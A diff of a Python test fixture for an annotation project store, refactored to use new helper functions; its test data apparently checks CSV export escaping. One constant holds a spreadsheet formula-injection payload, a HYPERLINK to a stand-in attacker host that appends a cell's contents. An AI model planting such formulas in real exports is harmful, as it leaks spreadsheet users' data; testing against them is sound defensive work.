@@ -5,6 +5,7 @@ import csv
 import io
 
 import pytest
+from dbkit import judge, new_project
 
 from db import store
 from db.errors import PermissionDeniedError
@@ -15,33 +16,14 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 @pytest.fixture
 def judged(factory) -> int:
     """Project (2 judges per item, one gold item): alice and bob each judge two items; alice's reason is a formula."""
-    with factory.begin() as s:
-        pid = store.create_project(
-            s,
-            actor="admin",
-            name="blind",
-            system_names=["sys_a", "sys_b"],
-            annotators_per_item=2,
-            gold_items={"d-0": "sys_a"},
-            seed=3,
-        )["id"]
+    pid = new_project(factory, "blind", annotators_per_item=2, gold_items={"d-0": "sys_a"}, seed=3)
     for user, preference, reason in (
         ("alice", "A", FORMULA),
         ("alice", "B", "+1 fine"),
         ("bob", "A", "-"),
         ("bob", "tie", "@me"),
     ):
-        with factory.begin() as s:
-            item = store.next_item(s, actor=user, project_id=pid)
-            store.record_judgement(
-                s,
-                actor=user,
-                item_id=item["item_id"],
-                preference=preference,
-                consistency_a=4,
-                consistency_b=2,
-                reason=reason,
-            )
+        judge(factory, user, pid, preference, consistency_a=4, consistency_b=2, reason=reason)
     return pid
 
 
